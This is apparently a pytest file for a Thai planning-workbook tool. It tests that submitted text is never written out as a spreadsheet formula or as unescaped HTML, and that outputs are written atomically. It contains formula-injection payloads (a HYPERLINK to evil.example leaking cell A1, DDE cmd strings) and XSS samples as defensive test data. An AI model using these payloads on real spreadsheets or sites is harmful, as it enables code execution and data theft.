"""Safe output (SPEC §7): no submitted text becomes a formula or markup, inputs are
never modified, and an output is either the previous complete file or the new
complete file — never half of one, and no temporary file stays behind."""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from oplan_xl.api import SUBMISSIONS, build, review
from oplan_xl.cli import main
from oplan_xl.core.layout import DEPARTMENT_SHEET, EQUIPMENT_COLUMNS, project_columns
from oplan_xl.core.normalise import clean_text
from oplan_xl.core.settings_layout import SETTINGS_FILE
from oplan_xl.write import atomic

from ..builders import DATA, equipment, make_plan, plan_with, project
from ..hostile import ROOT

# Text that a spreadsheet would run if it were written as a formula, and
# markup a browser would run if it were written unescaped.
INJECTIONS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"คลิกที่นี่")',
    "activity": "+1+cmd|' /C calc'!A0",
    "place": "-2+3 หมู่ที่ 1",
    "responsible": "@SUM(1+1)*cmd|' /C notepad'!A0",
    "note": "\t=1+1",
    "target": "\r=2+2 ตู้เหล็ก",
    "script": "<script>alert('oplan')</script> โครงการ",
    "image": '<img src=x onerror="alert(1)"> ซ่อมถนน',
}
# A strategy, budget and department that are wrong: their raw text goes to the findings.
WRONG = {"strategy": "=1+1", "budget": "=SUM(1,2)", "department": "=กองอวกาศ"}
STRATEGY = '=HYPERLINK("http://evil.example","ยุทธศาสตร์")'
ORG = "@องค์การบริหารส่วนตำบลทดสอบ"


def _typed_text(ws) -> None:
    """Every text cell written as text, as a user typing '=… into Excel would get."""
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                cell.data_type = "s"


def _submission(path: Path, projects: list[dict], equipment_rows: list[dict],
                department: str, sheet: str = "โครงการ") -> None:
    book = openpyxl.Workbook()
    info = book.active
    info.title = DEPARTMENT_SHEET
    for row in (["รายการ", "ค่า"], ["หน่วยงาน", department], ["ปีงบประมาณ", 2568]):
        info.append(row)
    for title, columns, rows in ((sheet, project_columns(), projects),
                                 ("ครุภัณฑ์", EQUIPMENT_COLUMNS, equipment_rows)):
        ws = book.create_sheet(title)
        ws.append([c.label for c in columns])
        for values in rows:
            ws.append([values.get(c.key) for c in columns])
        _typed_text(ws)
    _typed_text(info)
    book.save(path)


@pytest.fixture
def injected_plan(tmp_path):
    """A plan whose settings and submissions carry formula and markup payloads."""
    def settings(current):
        current.org_name = ORG
        current.strategies[0] = replace(current.strategies[0], name=STRATEGY)
        current.departments[2] = replace(current.departments[2], name="=กองช่าง")  # works
    plan_dir = plan_with(tmp_path, settings=settings)
    i = INJECTIONS
    projects = [
        project(name=i["name"], activity=i["activity"], place=i["place"],
                responsible=i["responsible"], note=i["note"]),
        project(name=i["script"], activity=i["image"], place="หมู่ที่ 2"),
        project(name="ถนนสายใหม่", strategy=WRONG["strategy"], budget=WRONG["budget"]),
    ]
    items = [equipment(target=i["target"], place=i["place"], responsible=i["responsible"])]
    _submission(plan_dir / SUBMISSIONS / "works.xlsx", projects, items, "=กองช่าง",
                sheet="=โครงการ")
    _submission(plan_dir / SUBMISSIONS / "=อวกาศ.xlsx", [project(name="โครงการอวกาศ")], [],
                WRONG["department"])
    return plan_dir


def _all_cells(path: Path):
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


# The only formulas we write: counts, sums and percentages over cell ranges, with
# numbers (never text) as criteria.
_OUR_FORMULA = re.compile(r"^=(?:IF|ROUND|SUM|SUMIF|SUMIFS|COUNT|COUNTIF|COUNTIFS)\([^\"]*$")


def test_submitted_text_is_never_a_formula_in_any_output(injected_plan):
    review(injected_plan)
    result = build(injected_plan, force=True)
    output = injected_plan / "output"
    workbooks = sorted(output.rglob("*.xlsx"))
    names = {path.relative_to(output).as_posix() for path in workbooks}
    assert {"pd01.xlsx", "pd02.xlsx", "pd02-1.xlsx", "findings.xlsx"} <= names
    assert any(name.startswith("returned/") for name in names)
    payloads = [*INJECTIONS.values(), *WRONG.values(), STRATEGY, ORG, "=กองช่าง", "=อวกาศ.xlsx",
                "=โครงการ"]
    texts: dict[str, set[str]] = {}
    for path in workbooks:
        found = texts.setdefault(path.relative_to(output).as_posix(), set())
        for _, cell in _all_cells(path):
            if cell.data_type == "f":
                formula = str(cell.value)
                assert _OUR_FORMULA.match(formula) or path.parent.name == "returned", \
                    (path.name, cell.coordinate, formula)
                for payload in payloads:
                    assert clean_text(payload) not in formula, (path.name, formula)
            elif isinstance(cell.value, str):
                found.add(cell.value)
    everything = set().union(*texts.values())
    visible = lambda text: clean_text(text)  # noqa: E731 - one space for tabs and breaks
    for key in ("name", "activity", "place", "responsible", "script", "image"):
        assert any(visible(INJECTIONS[key]) in text for text in texts["pd02.xlsx"]), key
    assert any(visible(INJECTIONS["target"]) in text for text in texts["pd02-1.xlsx"])
    assert any(STRATEGY in text for text in texts["pd01.xlsx"])
    assert any(ORG in text for text in texts["pd01.xlsx"])
    assert "=กองช่าง" in texts["pd02.xlsx"]  # the responsible unit defaulted to it
    for value in WRONG.values():  # the raw values shown in the findings, as text
        assert value in texts["findings.xlsx"], value
    assert "=อวกาศ.xlsx" in texts["findings.xlsx"] and "=โครงการ" in texts["findings.xlsx"]
    # The returned copy keeps the department's own cells exactly, typed as text.
    copy = next(p for p in workbooks if p.parent.name == "returned" and "กองช่าง" in p.name)
    cells = {cell.value: cell for title, cell in _all_cells(copy) if title == "=โครงการ"}
    for key in ("name", "activity", "place", "responsible", "note"):
        assert cells[INJECTIONS[key]].data_type == "s", key
    assert "=SUM(1,2)" in {c.value for _, c in _all_cells(copy)}
    assert result.built and everything


def test_preview_escapes_submitted_text(injected_plan):
    result = build(injected_plan, force=True)
    page = result.outputs["preview"].read_text(encoding="utf-8")
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert "onerror=" not in page.replace("onerror=&#34;", "").replace("onerror=&quot;", "")
    assert html.escape(clean_text(INJECTIONS["script"]), quote=True).replace("&#x27;", "&#39;") \
        in page
    assert "&lt;img src=x onerror=" in page
    assert "=HYPERLINK(" in page  # shown as the text it is


def _hashes(folder: Path) -> dict[str, tuple[str, float]]:
    return {path.relative_to(folder).as_posix(): (hashlib.sha256(path.read_bytes()).hexdigest(),
                                                  path.stat().st_mtime)
            for path in sorted(folder.rglob("*"))
            if path.is_file() and "output" not in path.relative_to(folder).parts}


def test_inputs_are_never_modified(tmp_path, injected_plan):
    hostile = DATA / "hostile"
    submissions = injected_plan / SUBMISSIONS
    for name in ("habit-formulas.xlsx", "habit-macro-workbook.xlsm", "habit-saved-as-xls.xls",
                 "habit-saved-as-ods.ods", "habit-month-fill.xlsx", "check-file-encrypted.xlsx"):
        (submissions / name).write_bytes((DATA / name).read_bytes())
    for name in ("long-cells.xlsx", "merge-over-everything.xlsx", "bad-crc.xlsx",
                 "xxe-file-styles.xlsx", "xls-formula-length.xls", "ods-repeated-columns.ods"):
        (submissions / name).write_bytes((hostile / name).read_bytes())
    os.utime(injected_plan / SETTINGS_FILE, (1_000_000_000, 1_000_000_000))
    before = _hashes(injected_plan)
    assert len(before) == 16  # with the launcher oplan init leaves (เปิดโปรแกรมแผน.cmd)
    runner = CliRunner()
    assert runner.invoke(main, ["check", str(injected_plan)]).exit_code == 1
    assert _hashes(injected_plan) == before
    assert runner.invoke(main, ["build", str(injected_plan), "--force"]).exit_code == 1
    assert runner.invoke(main, ["build", str(injected_plan)]).exit_code == 1
    assert _hashes(injected_plan) == before
    assert (injected_plan / "output" / "returned").is_dir()


# --- atomic outputs ------------------------------------------------------------------


def _plan_built(tmp_path) -> tuple[Path, dict[str, str]]:
    plan_dir = make_plan(tmp_path)
    _submission(plan_dir / SUBMISSIONS / "works.xlsx", [project(), project(name="ข")],
                [equipment()], "กองช่าง")
    assert build(plan_dir).built
    return plan_dir, _outputs(plan_dir)


def _outputs(plan_dir: Path) -> dict[str, str]:
    output = plan_dir / "output"
    return {path.relative_to(output).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(output.rglob("*"))
            if path.is_file() and not path.name.endswith(atomic.TEMP_SUFFIX)}


def _leftovers(plan_dir: Path) -> list[str]:
    return [p.name for p in (plan_dir / "output").rglob("*") if p.name.endswith(
        atomic.TEMP_SUFFIX)]


def _change_a_row(plan_dir: Path) -> None:
    path = plan_dir / SUBMISSIONS / "works.xlsx"
    book = openpyxl.load_workbook(path)
    book["โครงการ"]["C2"] = "ก่อสร้างถนน หมู่ที่ 9"
    book.save(path)


@pytest.mark.parametrize("error", [OSError(28, "No space left on device"),
                                   RuntimeError("the writer broke")],
                         ids=["disk-full", "writer-bug"])
def test_a_writer_failing_half_way_leaves_the_previous_outputs(tmp_path, monkeypatch, error):
    plan_dir, before = _plan_built(tmp_path)
    _change_a_row(plan_dir)
    import xlsxwriter

    real_close = xlsxwriter.Workbook.close

    def close_then_fail(self):
        if "pd02" in str(self.filename) or ".pd02-" in str(self.filename):
            Path(self.filename).write_bytes(b"PK\x03\x04 half a workbook")
            raise error
        return real_close(self)

    monkeypatch.setattr(xlsxwriter.Workbook, "close", close_then_fail)
    result = CliRunner().invoke(main, ["build", str(plan_dir)])
    after = _outputs(plan_dir)
    assert after["pd02.xlsx"] == before["pd02.xlsx"]  # the previous ผด.02, whole
    assert after["pd02-1.xlsx"] == before["pd02-1.xlsx"]
    assert after["preview.html"] == before["preview.html"]  # not reached: untouched
    assert _leftovers(plan_dir) == []
    openpyxl.load_workbook(plan_dir / "output" / "pd02.xlsx")  # still opens
    if isinstance(error, OSError):
        assert result.exit_code == 1
        # ผด.02 and ผด.02/1 both fail here; which one is reported first depends on
        # which process finishes first (ผด.02 is written in a second process)
        assert ("pd02.xlsx" in result.output or "pd02-1.xlsx" in result.output)
        assert "ดิสก์" in result.output
    else:
        assert result.exit_code == 2 and "ภายในโปรแกรม" in result.output
    assert "Traceback" not in result.output


def test_a_read_only_output_gives_a_message_and_harms_nothing(tmp_path, monkeypatch):
    plan_dir, before = _plan_built(tmp_path)
    _change_a_row(plan_dir)
    real_mkstemp = atomic.tempfile.mkstemp

    def refuse_pd01(*args, **kwargs):
        if kwargs.get("prefix", "").startswith(".pd01-"):
            raise PermissionError(13, "Permission denied")
        return real_mkstemp(*args, **kwargs)

    monkeypatch.setattr(atomic.tempfile, "mkstemp", refuse_pd01)
    result = CliRunner().invoke(main, ["build", str(plan_dir)])
    assert result.exit_code == 1
    assert "pd01.xlsx" in result.output and "ปิดไฟล์แล้วสั่งใหม่" in result.output
    after = _outputs(plan_dir)
    for name in ("pd01.xlsx", "pd02.xlsx", "pd02-1.xlsx", "preview.html"):
        assert after[name] == before[name], name
    assert _leftovers(plan_dir) == []


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0,
                    reason="root writes into a read-only folder regardless")
def test_a_read_only_output_folder(tmp_path):
    plan_dir, before = _plan_built(tmp_path)
    output = plan_dir / "output"
    for folder in (output, output / "returned"):
        if folder.is_dir():
            folder.chmod(0o555)
    try:
        result = CliRunner().invoke(main, ["build", str(plan_dir)])
    finally:
        for folder in (output, output / "returned"):
            if folder.is_dir():
                folder.chmod(0o755)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert _outputs(plan_dir) == before


def test_a_build_killed_while_writing_leaves_whole_files_only(tmp_path):
    """SIGKILL during the writing of the forms: every output is a whole file (old or
    new), and the next build removes the temporary file the killed one left."""
    plan_dir = make_plan(tmp_path)
    many = [project(name=f"โครงการที่ {n}", activity="ก่อสร้าง " * 20, months=(n % 12 + 1,))
            for n in range(600)]
    _submission(plan_dir / SUBMISSIONS / "works.xlsx", many, [], "กองช่าง")
    assert build(plan_dir).built
    before = _outputs(plan_dir)
    _change_a_row(plan_dir)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    child = subprocess.Popen([sys.executable, "-m", "oplan_xl", "build", str(plan_dir)],
                             cwd=ROOT, env=env, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    output = plan_dir / "output"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and child.poll() is None:
        if any(path.name.endswith(atomic.TEMP_SUFFIX)
               and path.name.startswith((".pd0", ".preview")) for path in output.iterdir()):
            break
        time.sleep(0.002)
    killed = child.poll() is None
    child.kill()  # SIGKILL on POSIX, TerminateProcess on Windows
    child.wait()
    after = _outputs(plan_dir)
    assert set(after) == set(before)
    for name in after:  # each is a whole file: the old one, or a complete new one
        path = output / name
        if name.endswith(".xlsx"):
            openpyxl.load_workbook(path, read_only=True).close()
        elif name.endswith(".json"):
            json.loads(path.read_text(encoding="utf-8"))
        elif name.endswith(".csv"):
            assert path.read_bytes().endswith(b"\r\n")
        else:
            assert path.read_text(encoding="utf-8").rstrip().endswith("</html>")
    left = _leftovers(plan_dir)
    if killed:
        assert left, "the kill came while a temporary file was being written"
    old = time.time() - 2 * 3600
    for path in output.rglob(f"*{atomic.TEMP_SUFFIX}"):
        os.utime(path, (old, old))  # as if the killed run were hours ago
    assert build(plan_dir).built
    assert _leftovers(plan_dir) == []
